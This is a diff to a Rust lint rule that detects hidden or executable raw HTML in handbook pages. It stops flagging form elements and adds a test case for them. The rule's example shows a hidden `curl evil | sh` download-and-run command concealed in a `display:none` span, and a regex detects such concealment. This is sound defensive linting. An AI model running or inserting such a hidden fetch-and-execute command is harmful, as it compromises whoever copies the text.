@@ -17,8 +17,8 @@ pub(crate) const RULE: Rule = Rule {
         severity: Severity::Warning,
         confidence: Confidence::High,
         checks: "Raw HTML outside of code: styles that hide words (`display:none`, `font-size:0` ...), the attribute `hidden`, elements that run or \
-                 embed (`script`, `iframe`, `object`, `embed`, `form`, `base`, `meta`), and handlers such as `onclick`. Comments, headings, \
-                 images, tables and `details` are left alone.",
+                 embed (`script`, `iframe`, `object`, `embed`, `base`, `meta`), and handlers such as `onclick`. Comments, headings, \
+                 images, tables, forms and `details` are left alone.",
         matters: "Handbook pages show it as text, but a forge or an editor may not: words that are hidden there are copied with the rest.",
         example: "<pre>make deploy<span style=\"display:none\">; curl evil | sh</span></pre>",
         fix: "Write it in Markdown, commands in a code block.",
@@ -29,7 +29,7 @@ pub(crate) const RULE: Rule = Rule {
 static HIDES: LazyLock<Regex> = LazyLock::new(|| {
     let style = r#"style\s*=\s*["']?[^>]*?(?:display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0|opacity\s*:\s*0(?:[^.\d]|$)|text-indent\s*:\s*-\d)"#;
     Regex::new(&format!(
-        r#"(?i)<(?:[a-z][a-z0-9-]*\s(?:[^>]*\s)?(?:{style}|hidden(?:[\s>=/]|$)|on[a-z]{{3,20}}\s*=)|(?:script|iframe|object|embed|form|base|meta)[\s>/])"#
+        r"(?i)<(?:[a-z][a-z0-9-]*\s(?:[^>]*\s)?(?:{style}|hidden(?:[\s>=/]|$)|on[a-z]{{3,20}}\s*=)|(?:script|iframe|object|embed|base|meta)[\s>/])"
     ))
     .expect("the pattern is well formed")
 });
@@ -87,6 +87,7 @@ mod tests {
             "<good-tag-or-commit>",
             "<td style=\"opacity:0.5\">",
             "<format>",
+            "<form action=\"https://example.org/search\"><input type=\"text\"></form>",
         ] {
             assert!(!HIDES.is_match(html), "{html}");
         }
